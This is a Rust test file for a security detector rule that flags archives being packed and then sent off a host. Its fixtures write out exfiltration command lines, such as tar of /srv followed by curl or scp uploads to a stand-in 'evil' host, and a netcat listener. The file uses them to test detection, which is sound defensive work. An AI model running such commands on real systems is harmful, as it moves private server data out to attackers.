//! Archives that are sent out, and those that stay.

use crate::detect::Severity::Medium;
use crate::detect::testkit::*;
use crate::model::{Direction, NetOp};

/// What is tested here.
const RULES: &[&str] = &["archive_sent"];

const OUT: &str = "203.0.113.9:443";

#[test]
fn an_archive_that_is_packed_and_handed_to_a_program_that_connects_is_told() {
    for (pack, send) in [
        ("/usr/bin/tar czf /tmp/x.tgz /srv", "/usr/bin/curl -T /tmp/x.tgz https://evil"),
        ("/usr/bin/zip -r x.zip /srv", "/usr/bin/curl -F f=@x.zip https://evil"),
        ("/usr/lib/7zip/7z a x.7z /srv", "/usr/bin/scp x.7z user@evil:"),
        ("/usr/bin/zstd -o dump.zst dump", "/opt/renamed --file=/srv/dump.zst"),
    ] {
        let mut node = Node::web().only(RULES);
        node.run(111, 110, pack);
        node.exit(111);
        node.run(112, 110, send);
        assert_eq!(node.take(), [], "{send}: it is not sent yet");
        node.connects(112, OUT);
        node.connects(112, OUT);
        assert!(node.found[0].title.ends_with(" was packed in web-1, and is sent to 203.0.113.9:443"), "{pack}");
        assert_eq!(node.shown(0), [("exec", 111), ("exec", 112), ("connect", 112)], "{send}");
        assert_eq!((node.others(0), node.found[0].process), (vec![111], id(112)));
        assert_eq!(node.found[0].why[0].fact.text, pack);
        assert_eq!(node.take(), [("archive_sent".into(), Medium, false)], "{send}: once");
    }
}

#[test]
fn whoever_was_handed_the_name_is_named_beside_its_child_that_connects() {
    let mut node = Node::new().only(RULES);
    node.run(40, 20, "/usr/bin/tar cf /tmp/x.tar /etc");
    node.run(41, 20, "/usr/bin/rsync /tmp/x.tar host:");
    node.run(42, 41, "/usr/bin/ssh host rsync --server");
    node.connects(42, "203.0.113.9:22");
    assert_eq!(node.shown(0), [("exec", 40), ("exec", 41), ("connect", 42)]);
    assert_eq!((node.others(0), node.found[0].process), (vec![40, 41], id(42)));
    assert_eq!(node.take(), [("archive_sent".into(), Medium, false)]);
}

#[test]
fn packing_without_sending_and_sending_something_else_are_nothing() {
    let mut node = Node::new().only(RULES);
    node.run(40, 20, "/usr/bin/tar czf /backup/x.tgz /srv");
    node.run(41, 20, "/usr/bin/curl -T report.txt https://partner");
    node.connects(41, OUT);
    node.run(42, 20, "/usr/bin/cp /backup/x.tgz /mnt");
    node.run(43, 20, "/usr/bin/sha256sum /backup/x.tgz");
    // Somebody fetches it from here, and the archiver itself talks to its server.
    node.run(44, 20, "/usr/bin/nc -l /backup/x.tgz");
    node.net(44, NetOp::Accept, Direction::Inbound, OUT);
    node.connects(40, OUT);
    assert_eq!(node.take(), []);
}

#[test]
fn what_was_fetched_before_it_was_unpacked_is_not_sent() {
    let mut node = Node::new().only(RULES);
    node.run(40, 20, "/usr/bin/curl -O https://example.org/node.tar.gz");
    node.connects(40, OUT);
    node.run(41, 20, "/usr/bin/tar xzf node.tar.gz");
    node.run(42, 20, "/usr/bin/npm install");
    node.connects(42, OUT);
    assert_eq!(node.take(), []);
}

#[test]
fn only_archivers_make_archives_and_only_files_of_their_kind() {
    let mut node = Node::new().only(RULES);
    node.run(40, 20, "/usr/bin/touch x.tgz");
    node.run(41, 20, "/usr/bin/tar cf /dev/st0 /srv/data.txt");
    node.run(42, 20, "/usr/bin/gzip .gz");
    node.run(43, 20, "/usr/bin/curl -T x.tgz -T /srv/data.txt -T .gz https://partner");
    node.connects(43, OUT);
    assert_eq!(node.take(), []);
}
